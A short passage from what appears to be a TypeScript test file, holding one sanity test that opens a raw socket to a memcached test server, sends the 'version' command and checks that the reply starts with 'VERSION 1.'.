  describe("sanity of the helpers", () => {
    it("memcached really is there (raw version command)", async () => {
      const reply = await new Promise<string>((resolve, reject) => {
        const s = net.connect(mc.port, mc.host, () => s.write("version\r\n"));
        s.once("data", (d) => { resolve(d.toString()); s.destroy(); });
        s.once("error", reject);
      });
      assert.match(reply, /^VERSION 1\./);
    });
  });
});
